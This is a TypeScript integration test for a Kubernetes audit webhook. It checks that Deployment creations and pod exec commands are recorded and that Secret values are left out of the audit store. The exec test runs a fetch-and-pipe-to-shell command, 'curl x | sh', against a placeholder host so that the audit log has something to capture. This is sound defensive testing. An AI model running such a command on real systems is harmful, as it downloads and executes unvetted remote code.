import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { RETENTION } from '../../webhook/audit/columns.ts';
import { SqliteFacts } from '../../webhook/audit/sqlite.ts';
import { openScene, type Scene } from '../webhook/harness.ts';
import { type RunningCluster, startCluster } from './cluster.ts';
import { clusterTests } from './requirement.ts';

const TOKEN = 'the-token-of-the-audit-webhook';
const POLICY = join(import.meta.dirname, '..', '..', 'manifests', 'audit', 'policy.yaml');

describe.skipIf(clusterTests.skip)('a real API server with our audit policy', () => {
  let facts: SqliteFacts;
  let scene: Scene;
  let cluster: RunningCluster;

  beforeAll(async () => {
    facts = new SqliteFacts(':memory:', RETENTION);
    scene = await openScene({ facts, auditToken: async () => TOKEN });
    cluster = await startCluster({
      name: 'audit-test',
      audit: {
        url: `${scene.webhook.url}/audit`,
        ca: scene.webhook.caBundle,
        token: TOKEN,
        policy: readFileSync(POLICY, 'utf8'),
      },
    });
  }, 120_000);
  afterAll(async () => {
    await cluster?.stop();
    await scene?.[Symbol.asyncDispose]();
    await facts?.close();
  });

  const find = (query: object) => facts.find({ from: 0, to: Number.MAX_SAFE_INTEGER, limit: 1000, ...query });
  const eventually = { timeout: 20_000, interval: 200 };

  test('sends what a Deployment runs, and who made it', async () => {
    const { status } = await cluster.kubectl(['create', 'deployment', 'web', '--image=nginx:1.27']);
    expect(status).toBe(0);
    await expect
      .poll(() => find({ resource: 'deployments', name: 'web', writesOnly: true }), eventually)
      .toContainEqual(
        expect.objectContaining({
          verb: 'create',
          code: 201,
          decision: 'allow',
          images: ['nginx:1.27'],
          fingerprint: expect.arrayContaining([expect.objectContaining({ facet: 'template' })]),
        }),
      );
    await expect
      .poll(async () => (await find({ resource: 'pods', writesOnly: true }))[0]?.target, eventually)
      .toMatchObject({
        name: expect.stringMatching(/^web-/),
        uid: expect.stringMatching(/-/),
        owner: expect.stringMatching(/^ReplicaSet\/web-/),
      });
  });

  test('sends the command of an exec, whatever came of it', async () => {
    const [pod] = await find({ resource: 'pods', writesOnly: true });
    await cluster.kubectl(['exec', pod?.target.name ?? '', '--', 'sh', '-c', 'curl x | sh']);
    await expect
      .poll(
        async () => (await find({ resource: 'pods' })).find(({ target }) => target.subresource === 'exec'),
        eventually,
      )
      .toMatchObject({ command: ['sh', '-c', 'curl x | sh'] });
  });

  test('sends nothing of what is in a Secret', async () => {
    await cluster.kubectl(['create', 'secret', 'generic', 's', '--from-literal=password=hunter2']);
    await expect
      .poll(async () => (await find({ resource: 'secrets', name: 's' })).length, eventually)
      .toBeGreaterThan(0);
    expect(JSON.stringify(await find({ resource: 'secrets' }))).not.toMatch(/hunter2|aHVudGVyMg/);
  });
});
